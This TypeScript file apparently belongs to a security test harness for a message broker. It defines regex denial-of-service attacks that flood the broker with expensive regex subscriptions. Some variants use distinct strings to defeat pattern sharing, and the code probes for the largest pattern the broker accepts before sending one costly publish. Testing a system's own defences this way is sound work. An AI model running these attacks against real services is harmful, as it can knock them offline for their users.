// Attack 2: many native regex subscriptions to a pattern whose linear-time matching needs a
// large state ([ab]*a[ab]{900}c, within topics.maxRegexLength), from one user, then one publish to
// a new 1 KB topic, which is tested against every regex. If the broker refuses {900}, the attack
// uses the largest count it accepts (a budget on each pattern's size must not be the only defence).
// 2a and 2b repeat one pattern; 2c makes every pattern a distinct string with the
// same program ((?:i){0} compiles to nothing), so sharing identical patterns is not enough either.
import type { Attack } from '../attack.js';
import { RawNative, describe, subscribeInBatches } from '../native-raw.js';
import { waitUntil } from '../wait.js';

const REPEAT = 900;
const pattern = (repeat: number): string => `[ab]*a[ab]{${repeat}}c`;
const PUBLISH_WAIT_MS = 45_000;
/**
 * A new topic of 1,024 bytes: 1,023 pseudo-random a and b, then c. Without the c, re2js sees that
 * the required literal is missing and answers at once; with it, every regex scans the whole topic
 * with a state set that keeps changing (~26 ms per pattern measured alone).
 */
export function expensiveTopic(): string {
  let x = 0x9e3779b9;
  let topic = '';
  for (let i = 0; i < 1_023; i++) {
    // xorshift32: the same topic every run.
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    topic += (x & 1) === 0 ? 'a' : 'b';
  }
  return `${topic}c`;
}
const TOPIC = expensiveTopic();

/** The largest repeat count n <= REPEAT whose pattern the broker accepts (subscribed as sid 1), or 0. */
async function longestAccepted(client: RawNative): Promise<number> {
  const accepts = async (repeat: number): Promise<boolean> => {
    if ((await client.request({ op: 'subscribe', sid: 1, regex: pattern(repeat) }))?.op !== 'ack') return false;
    await client.request({ op: 'unsubscribe', sid: 1 });
    return true;
  };
  if (await accepts(REPEAT)) return REPEAT;
  let [lo, hi] = [0, REPEAT - 1];
  while (lo < hi) {
    const mid = Math.ceil((lo + hi) / 2);
    if (await accepts(mid)) lo = mid;
    else hi = mid - 1;
  }
  return lo;
}

function regexAttack(id: string, count: number, distinct: boolean): Attack {
  return {
    id,
    name: `${count.toLocaleString('en-US')} regex subscriptions ${pattern(REPEAT)}${distinct ? ', distinct strings' : ''}, one publish`,
    timeoutMs: PUBLISH_WAIT_MS + 15_000,
    async run(ctx) {
      const attacker = await RawNative.logOn(ctx.nativeUrl, 'mallory');
      const repeat = await longestAccepted(attacker);
      if (repeat === 0) return { attackerGot: `every ${pattern(1)} refused`, ownTarget: null };
      const regex = (i: number): string => (distinct ? `${pattern(repeat)}(?:${i}){0}` : pattern(repeat));
      const { accepted, refusals, refused } = await subscribeInBatches(attacker, count, (sid) => ({
        regex: regex(sid),
      }));
      ctx.log(
        `${id}: ${accepted} subscriptions to ${pattern(repeat)} accepted${refused === '' ? '' : `, refused ${refused}`}`,
      );
      // One publish to a new topic, acked: the broker answers after routing it (or dies trying).
      // Waited for at most PUBLISH_WAIT_MS, so the attack reports before the harness gives up on it.
      const publisher = await RawNative.logOn(ctx.nativeUrl, 'mallory');
      const started = Date.now();
      const answer = await publisher.request(
        { op: 'publish', topic: TOPIC, data: { x: 1 }, ack: true },
        PUBLISH_WAIT_MS,
      );
      const publishMs = Date.now() - started;
      await waitUntil(ctx, () => attacker.deliveries > 0 || !attacker.isOpen, 1_000);
      return {
        attackerGot: `${repeat === REPEAT ? '' : `{${repeat}} at most; `}${accepted} subscribed${refused === '' ? '' : `, ${refused}`}; publish: ${answer === null ? `no answer in ${publishMs} ms` : `${describe(answer)} after ${publishMs} ms`}; ${attacker.endReason()}`,
        ownTarget: null,
        details: {
          repeat,
          accepted,
          refusals: Object.fromEntries(refusals),
          publishMs,
          deliveries: attacker.deliveries,
        },
      };
    },
  };
}

export const regexAttacks: Attack[] = [
  regexAttack('2a', 400, false),
  regexAttack('2b', 3_000, false),
  regexAttack('2c', 400, true),
];
